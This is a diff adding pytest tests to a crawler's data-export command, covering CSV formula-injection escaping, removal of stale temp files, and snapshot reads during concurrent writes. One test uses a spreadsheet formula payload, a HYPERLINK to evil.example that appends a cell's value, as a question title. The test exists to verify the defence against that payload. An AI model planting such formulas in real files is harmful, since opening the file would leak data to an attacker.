@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import csv
+import dataclasses
 import gc
 import hashlib
 import json
@@ -14,9 +15,11 @@ import pyarrow as pa
 import pyarrow.parquet as pq
 import pytest
 from click.testing import CliRunner, Result
-from research_data import Built, build_archive
+from research_data import Built, _capture, build_archive, make_record
+from research_warc import append_response
 
 from crawler.cli import cli
+from storage import Archive
 from storage.research.export_rows import QUESTION_SCHEMA, iter_question_rows
 from storage.search import SearchFilters
 
@@ -186,3 +189,89 @@ def test_every_format_writes_a_manifest_with_the_sha256(
     assert run_export(built, out, "--format", fmt).exit_code == 0
     files = manifest_of(out)["files"]
     assert files[0]["sha256"] == hashlib.sha256(out.read_bytes()).hexdigest()
+
+
+def ingest_record(built: Built, record: object, n: int) -> None:
+    """Archive one more record (its own WARC record and capture), as a crawl would."""
+    warc = built.data_dir / "warc" / "extra.warc.gz"
+    warc.parent.mkdir(parents=True, exist_ok=True)
+    offset, length = append_response(warc, record.url, record.to_json().encode())
+    run_id = built.archive.start_run(site="doctorqna", arguments={"test": True})
+    built.archive.ingest(record, _capture(record.url, warc, offset, length, run_id, n))
+    built.archive.finish_run(run_id, stats={}, outcome="finished")
+
+
+@pytest.mark.parametrize("deidentify", [False, True], ids=["plain", "deidentified"])
+def test_csv_export_neutralises_a_formula_title(
+    fresh: Built, tmp_path: Path, deidentify: bool
+) -> None:
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    record = dataclasses.replace(
+        make_record(50),
+        url="https://doctorqna.com/en/article/299999",
+        canonical_url="https://doctorqna.com/en/article/299999",
+        external_id="299999",
+        question_title=formula,
+        question_body="@SUM(1+1) call 0912-345-678",
+    )
+    ingest_record(fresh, record, 50)
+    out = tmp_path / "q.csv"
+    extra = ["--deidentify"] if deidentify else []
+    result = run_export(fresh, out, "--format", "csv", *extra)
+    assert result.exit_code == 0, result.output
+    with out.open(newline="", encoding="utf-8") as fh:
+        row = next(r for r in csv.DictReader(fh) if r["external_id"] == "299999")
+    assert row["question_title"] == "'" + formula
+    expected_body = "@SUM(1+1) call [PHONE]" if deidentify else "@SUM(1+1) call 0912-345-678"
+    assert row["question_body"] == "'" + expected_body
+    jsonl = tmp_path / "q.jsonl"
+    assert run_export(fresh, jsonl, "--format", "jsonl", *extra).exit_code == 0
+    rows = [json.loads(line) for line in jsonl.read_text(encoding="utf-8").splitlines()]
+    assert next(r for r in rows if r["external_id"] == "299999")["question_title"] == formula
+
+
+def test_export_removes_a_killed_exports_temp_file_and_says_so(
+    built: Built, tmp_path: Path
+) -> None:
+    stale = tmp_path / ".old.parquet.0123456789ab.tmp"
+    stale.write_bytes(b"\0" * 200_000)  # no process holds its lock: its export is dead
+    out = tmp_path / "new.jsonl"
+    result = run_export(built, out, "--format", "jsonl")
+    assert result.exit_code == 0, result.output
+    assert not stale.exists()
+    assert "removed 1 temporary file(s) (0.2 MB)" in result.stderr
+    assert "killed exports" in result.stderr
+
+
+def test_export_reads_one_snapshot_while_a_crawl_writes(fresh: Built) -> None:
+    """Rows after the writer's commits still show the archive as of the export's first read.
+
+    The writer is another engine (its own connections, as a crawl process has) committing
+    between two batches of the export: a new question and a new revision of a later one.
+    """
+    expected = list(iter_question_rows(fresh.archive.engine))
+    rows = iter_question_rows(fresh.archive.engine, batch=3)
+    first = next(rows)
+
+    writer = Archive.open(fresh.db_url, data_dir=fresh.data_dir)
+    try:
+        later = fresh.records[-2]  # answered, and in the export's last batch
+        revised = dataclasses.replace(later, question_body="Rewritten while exporting", answers=())
+        added = dataclasses.replace(
+            make_record(40),
+            url="https://doctorqna.com/en/article/299998",
+            canonical_url="https://doctorqna.com/en/article/299998",
+            external_id="299998",
+        )
+        for n, record in enumerate((revised, added), start=200):
+            ingest_record(Built(writer, fresh.data_dir, [], fresh.db_url), record, n)
+        now = list(iter_question_rows(writer.engine))
+    finally:
+        writer.close()
+    assert len(now) == len(expected) + 1, "the writer's commits are visible to a new export"
+
+    exported = [first, *rows]
+    assert exported == expected
+    row = next(r for r in exported if r["url"] == later.url)
+    assert row["question_body"] == later.question_body
+    assert row["answer_count"] == len(later.answers) > 0
